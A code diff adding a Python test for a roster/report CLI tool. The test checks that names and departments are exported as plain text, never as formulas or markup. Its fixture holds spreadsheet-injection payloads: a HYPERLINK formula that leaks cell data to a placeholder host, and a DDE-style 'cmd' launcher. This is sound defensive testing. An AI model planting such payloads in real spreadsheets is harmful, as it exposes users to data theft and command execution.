@@ -230,3 +230,28 @@ def test_benchmark_script_smoke(tmp_path):
                            "--results", "1500", "--dir", str(tmp_path)], capture_output=True, text=True, timeout=300)
     assert done.returncode == 0, done.stderr
     assert "figures agree with pandas" in done.stdout
+
+
+def test_roster_text_is_never_a_formula_or_markup(tmp_path):
+    """A 姓名 or 科室 such as =HYPERLINK(...) stays text in every export (CSV/xlsx injection)."""
+    home = tmp_path / "h"
+    roster = tmp_path / "名册.csv"
+    evil_name, evil_dept = '=HYPERLINK("http://x.invalid/?"&A1,"点我")', "@SUM(1+1)*cmd|' /C calc'!A0"
+    roster.write_text(f"工号,姓名,科室,类别\nMZ900,\"{evil_name.replace(chr(34), chr(34) * 2)}\",{evil_dept},公务员\n"
+                      "MZ901,<b>王五</b>|x,-办公室,公务员\n", encoding="utf-8")
+    runner = CliRunner()
+    assert runner.invoke(cli, ["roster", "import", str(roster), "--home", str(home)]).exit_code == 0
+    out = tmp_path / "r"
+    for suffix in (".xlsx", ".csv", ".md"):
+        result = runner.invoke(cli, ["report", "--year", "2020", "-o", str(out) + suffix, "--home", str(home)])
+        assert result.exit_code == 0, result.output
+    wb = load_workbook(str(out) + ".xlsx")
+    cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row if isinstance(c.value, str)]
+    assert any(c.value == evil_name for c in cells)                     # shown exactly as written ...
+    assert not [c.coordinate for c in cells if c.data_type == "f"]      # ... and never as a formula
+    people = report.people_csv_path(Path(str(out) + ".csv")).read_text(encoding="utf-8-sig")
+    for line in csv.reader(people.splitlines()):
+        assert not any(v.startswith(("=", "+", "-", "@")) for v in line), line
+    assert "'" + evil_name in people
+    md = Path(str(out) + ".md").read_text(encoding="utf-8")
+    assert "<b>" not in md and "\\<b\\>" in md
